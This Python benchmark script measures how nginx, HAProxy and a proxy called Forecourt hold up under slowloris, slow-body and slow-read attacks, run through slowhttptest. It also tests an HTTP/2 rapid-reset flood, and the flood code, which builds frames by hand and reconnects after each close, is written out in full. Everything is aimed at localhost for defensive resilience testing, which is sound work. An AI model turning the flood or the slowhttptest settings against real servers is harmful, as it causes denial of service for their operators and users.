#!/usr/bin/env python3
"""A well-behaved client's view of a proxy under attack, side by side with nginx and
HAProxy configured for the same limits (issue #21's attack battery).

    bench/attack.py --cpus 0:0:1 nginx haproxy ours

For each proxy, one after the other, in phases of --seconds: no attack (the baseline),
then a slowloris, a slow-body and a slow-read attack (Debian's slowhttptest, 2,000
connections each) and an HTTP/2 rapid-reset flood (this script, --flood: streams opened
and cancelled at once, on 8 connections, reconnecting whenever one is closed). The
attacks come from 127.0.0.1; the well-behaved client, from 127.0.0.2, asks for a small
page --rate times a second, each on a new HTTP/1.1 connection, and records whether it got
a 200 within 10 s and how long it took. Printed: its success rate, p50 and p99 in each
phase, p99 against its own baseline, and what the attack achieved.

The same limits everywhere, in each peer's own terms: one worker (thread); at most 4,096
connections; 100 open connections per address (nginx: `limit_conn`, which counts
requests in progress, not idle or half-sent connections: nginx has nothing closer);
50 new connections per second per address (HAProxy `sc0_conn_rate`; nginx has no such
limit); 200 requests per second per address, burst 200 (`limit_req ... nodelay`, HAProxy
`sc0_http_req_rate`, a Forecourt `[limits]` table); 10 s to send a request head, 10 s
between two pieces of a body, 10 s for a client to take more of a response. HTTP/2 with
prior knowledge on a second port.

`--cpus PROXY:CLIENT:ATTACKER`: the proxy on the first cpu list, the origin (nginx
serving files) and the client on the second, the attackers on the third, at `nice 19`.
The attackers stand for machines elsewhere: what they spend, in their own process and in
the kernel's network processing that runs on their core (a connection flood's), must not
be what slows the client down. On a 2-core machine: `--cpus 0:0:1` (proxy, origin and
client share a core; the attackers have the other).
"""
import argparse, asyncio, importlib.util, json, os, re, resource, socket, subprocess, sys, tempfile, time
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location("cachebench", os.path.join(HERE, "cache.py"))
cb = importlib.util.module_from_spec(spec)
spec.loader.exec_module(cb)
pb = cb.pb

H1, H2 = cb.PROXY, cb.PROXY + 2
ATTACKER, CLIENT = "127.0.0.1", "127.0.0.2"
SLOW = {
    "slowloris": ["-H", "-c", "2000", "-r", "500", "-i", "5", "-x", "24", "-u", f"http://{ATTACKER}:{H1}/tiny"],
    "slow body": ["-B", "-c", "2000", "-r", "500", "-i", "5", "-s", "100000", "-x", "10",
                  "-u", f"http://{ATTACKER}:{H1}/tiny"],
    "slow read": ["-X", "-c", "2000", "-r", "500", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3",
                  "-u", f"http://{ATTACKER}:{H1}/big"],
}


def nginx_conf(d):
    return f"""worker_processes 1; pid {d}/nginx.pid; error_log {d}/error.log error; daemon off;
events {{ worker_connections 4096; }}
http {{ access_log off; client_body_temp_path {d}/body; proxy_temp_path {d}/proxy;
  fastcgi_temp_path {d}/fcgi; uwsgi_temp_path {d}/uwsgi; scgi_temp_path {d}/scgi;
  client_header_timeout 10s; client_body_timeout 10s; send_timeout 10s;
  limit_conn_zone $binary_remote_addr zone=conn:16m;
  limit_req_zone $binary_remote_addr zone=req:16m rate=200r/s;
  limit_conn_status 429; limit_req_status 429;
  upstream o {{ server 127.0.0.1:{cb.ORIGIN}; keepalive 64; }}
  server {{ listen 127.0.0.1:{H1}; listen 127.0.0.1:{H2} http2;
    limit_conn conn 100; limit_req zone=req burst=200 nodelay;
    location / {{ proxy_pass http://o; proxy_http_version 1.1; proxy_set_header Connection ""; }} }} }}
"""


def haproxy_conf(d):
    return f"""global
  maxconn 4096
  nbthread 1
  pidfile {d}/haproxy.pid
defaults
  mode http
  timeout connect 5s
  timeout client 10s
  timeout server 60s
  timeout http-request 10s
  timeout http-keep-alive 75s
frontend fe
  bind 127.0.0.1:{H1}
  bind 127.0.0.1:{H2} proto h2
  stick-table type ip size 1m expire 60s store conn_cur,conn_rate(1s),http_req_rate(1s)
  tcp-request connection track-sc0 src
  tcp-request connection reject if {{ sc0_conn_cur gt 100 }} || {{ sc0_conn_rate gt 50 }}
  http-request deny deny_status 429 if {{ sc0_http_req_rate gt 200 }}
  default_backend be
backend be
  server o 127.0.0.1:{cb.ORIGIN}
"""


def forecourt_conf():
    listener = """max_connections = 4096
max_connections_per_ip = 100
new_connections_per_ip = "50/s"
"""
    return f"""[global]
workers = 1
admin = "127.0.0.1:{cb.ADMIN}"
access_log = "off"
limits = ["per_ip"]
[global.timeouts]
client_header = "10s"
client_body = "10s"
client_send = "10s"
[limits.per_ip]
rate = "200/s"
burst = 200
[[listen]]
addr = "127.0.0.1:{H1}"
{listener}
[[listen]]
addr = "127.0.0.1:{H2}"
{listener}
[[route]]
upstream = "o"
[upstream.o]
servers = ["127.0.0.1:{cb.ORIGIN}"]
"""


def candidate(name, d):
    if name == "nginx":
        open(f"{d}/nginx.conf", "w").write(nginx_conf(d))
        return ["nginx", "-c", f"{d}/nginx.conf", "-p", d]
    if name == "haproxy":
        open(f"{d}/haproxy.cfg", "w").write(haproxy_conf(d))
        return ["haproxy", "-db", "-f", f"{d}/haproxy.cfg"]
    open(f"{d}/forecourt.toml", "w").write(forecourt_conf())
    return [cb.FORECOURT, "run", "-c", f"{d}/forecourt.toml"]


# --- the well-behaved client ------------------------------------------------------------

async def one_request(port):
    """Seconds to a 200 on a new connection from CLIENT, or None."""
    started = time.perf_counter()
    try:
        sock = socket.socket()
        sock.bind((CLIENT, 0))
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
        reader, writer = await asyncio.open_connection(sock=sock)
        writer.write(b"GET /tiny HTTP/1.1\r\nHost: site\r\nConnection: close\r\n\r\n")
        reply = await reader.read()
        writer.close()
        ok = reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"hello, world\n")
        return time.perf_counter() - started if ok else None
    except OSError:
        return None


async def behave(port, seconds, rate):
    tasks = []
    start = time.perf_counter()
    for i in range(int(seconds * rate)):
        await asyncio.sleep(max(0, start + i / rate - time.perf_counter()))
        tasks.append(asyncio.create_task(asyncio.wait_for(one_request(port), 10)))
    out = []
    for t in tasks:
        try:
            out.append(await t)
        except asyncio.TimeoutError:
            out.append(None)
    return out


# --- the HTTP/2 rapid-reset flood -------------------------------------------------------

def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


# :method GET, :scheme http, :path /tiny, :authority site (literals not indexed).
GET = bytes([0x82, 0x86, 0x04, 5]) + b"/tiny" + bytes([0x01, 4]) + b"site"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")


async def flood_connection(port, per_second, stats, until):
    """Streams opened and reset at once, 100 at a time, at `per_second`, reconnecting
    whenever the server closes the connection."""
    while time.perf_counter() < until:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.01)
            continue
        stats["connections"] += 1
        drain = asyncio.create_task(reader.read(-1))
        try:
            writer.write(PREFACE)
            stream = 1
            while time.perf_counter() < until and not drain.done() and stream < 2**31 - 200:
                batch = bytearray()
                for _ in range(100):
                    batch += frame(1, 0x5, stream, GET) + frame(3, 0, stream, (8).to_bytes(4, "big"))
                    stream += 2
                writer.write(bytes(batch))
                await writer.drain()
                stats["streams"] += 100
                await asyncio.sleep(100 / per_second)
        except OSError:
            pass
        finally:
            drain.cancel()
            writer.close()


async def flood(port, seconds, per_second, connections=8):
    stats = {"streams": 0, "connections": 0, "refused": 0}
    until = time.perf_counter() + seconds
    await asyncio.gather(*(flood_connection(port, per_second / connections, stats, until)
                           for _ in range(connections)))
    return stats


# --- the run ----------------------------------------------------------------------------

def summary(latencies):
    ok = sorted(x for x in latencies if x is not None)
    q = lambda p: ok[min(len(ok) - 1, int(p * len(ok)))] * 1000 if ok else float("nan")
    return {"asked": len(latencies), "ok": len(ok), "p50": q(0.50), "p99": q(0.99)}


def slowhttptest_peak(text):
    """The most connections slowhttptest held open at once, and whether it says the
    service stayed available at its last report."""
    text = re.sub(r"\x1b\[[0-9;]*m", "", text)
    connected = [int(x) for x in re.findall(r"connected:\s+(\d+)", text)]
    available = re.findall(r"service available:\s+(\w+)", text)
    return f"held {max(connected, default=0)} connections; available (its probe): {available[-1] if available else '?'}"


def phase(args, attack, proxy_pid):
    """Runs the client for --seconds while `attack` (None, a slowhttptest mode or
    'rapid reset') goes on; returns the client's summary (with the CPU the proxy spent
    meanwhile) and the attack's outcome."""
    me = [sys.executable, os.path.abspath(__file__)]
    attacker, outcome = None, ""
    if attack in SLOW:
        cmd = ["slowhttptest", *SLOW[attack], "-l", str(args.seconds + 10), "-p", "3"]
    elif attack == "rapid reset":
        cmd = me + ["--flood", str(args.seconds + 5), "--flood-rate", str(args.flood_rate)]
    if attack:
        attacker = subprocess.Popen(pb.taskset(args.attacker) + ["nice", "-n", "19"] + cmd,
                                    stdout=subprocess.PIPE, text=True,
                                    stderr=subprocess.STDOUT if attack in SLOW else None)
    if attacker:
        time.sleep(5)  # the attack ramps up before the client starts measuring
    cpu = pb.cpu_seconds([proxy_pid])
    client = subprocess.run(pb.taskset(args.load) + me + ["--client", str(args.seconds), "--rate", str(args.rate)],
                            capture_output=True, text=True, check=True)
    latencies = json.loads(client.stdout)
    cpu = (pb.cpu_seconds([proxy_pid]) - cpu) / args.seconds
    if attacker:
        if attack in SLOW:
            attacker.terminate()
            text = attacker.communicate()[0]
            open(os.path.join(args.work, f"{args.name}-{attack.replace(' ', '-')}.log"), "w").write(text)
            outcome = slowhttptest_peak(text)
        else:
            stats = json.loads(attacker.communicate()[0])
            outcome = (f"{stats['streams']:,} streams reset on {stats['connections']:,} connections "
                       f"({stats['refused']:,} connects refused)")
        time.sleep(12)  # what the attack left open times out before the next phase
    return dict(summary(latencies), cpu=cpu), outcome


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("candidates", nargs="*", default=["nginx", "haproxy", "ours"])
    ap.add_argument("--cpus", default="", help="PROXY:CLIENT:ATTACKER cpu lists for taskset (the origin goes with CLIENT)")
    ap.add_argument("--seconds", type=int, default=25, help="client measurement per phase")
    ap.add_argument("--rate", type=int, default=20, help="client requests a second")
    ap.add_argument("--flood-rate", type=int, default=50_000, help="rapid-reset streams a second")
    ap.add_argument("--attacks", default="slowloris,slow body,slow read,rapid reset",
                    help="which attacks follow the baseline, comma-separated")
    ap.add_argument("--client", type=int, help=argparse.SUPPRESS)
    ap.add_argument("--flood", type=int, help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.client:
        print(json.dumps(asyncio.run(behave(H1, args.client, args.rate))))
        return
    if args.flood:
        print(json.dumps(asyncio.run(flood(H2, args.flood, args.flood_rate))))
        return
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # slowhttptest holds thousands
    args.proxy, args.load, args.attacker = (args.cpus.split(":") + ["", ""])[:3] if args.cpus else ("", "", "")
    work = tempfile.mkdtemp(prefix="attackbench-")
    os.chmod(work, 0o755)  # the origin's workers (www-data) read the files under it
    origin, _ = cb.origin(work, args.load)
    open(os.path.join(work, "www", "big"), "wb").write(os.urandom(1 << 20))
    phases = [None] + [a for a in args.attacks.split(",") if a]
    rows = []
    try:
        for name in args.candidates:
            d = os.path.join(work, name)
            args.work, args.name = work, name
            os.makedirs(d)
            proc = cb.start(candidate(name, d), open(f"{d}/out.log", "w"), args.proxy)
            assert pb.wait_port(H1) and pb.wait_port(H2), f"{name} did not start:\n" + open(f"{d}/out.log").read()
            base = None
            for attack in phases:
                s, outcome = phase(args, attack, proc.pid)
                base = base or s["p99"]
                rows.append((name, attack or "none", s, s["p99"] / base, outcome))
                print(f"{name:8} {attack or 'none':12} {s['ok']}/{s['asked']} ok, p50 {s['p50']:.2f} ms, "
                      f"p99 {s['p99']:.2f} ms ({s['p99'] / base:.2f}x baseline), proxy CPU {100 * s['cpu']:.0f} %  "
                      f"{outcome}", flush=True)
            if name == "ours":
                # urllib, not curl: the lent benchmark machine may have none.
                metrics = urllib.request.urlopen(f"http://127.0.0.1:{cb.ADMIN}/metrics", timeout=5).read().decode()
                for line in metrics.splitlines():
                    if line.startswith(("forecourt_connections_refused_total", "forecourt_h2_connections_closed_total")):
                        print("   ", line)
            cb.stop(proc)
    finally:
        cb.stop(origin)
    print("\n| proxy | attack | client success | p50 ms | p99 ms | p99 / baseline | proxy CPU | the attack |")
    print("|---|---|---|---|---|---|---|---|")
    for name, attack, s, ratio, outcome in rows:
        print(f"| {name} | {attack} | {100 * s['ok'] / s['asked']:.1f} % ({s['ok']}/{s['asked']}) | "
              f"{s['p50']:.2f} | {s['p99']:.2f} | {ratio:.2f}× | {100 * s['cpu']:.0f} % | {outcome} |")


if __name__ == "__main__":
    main()
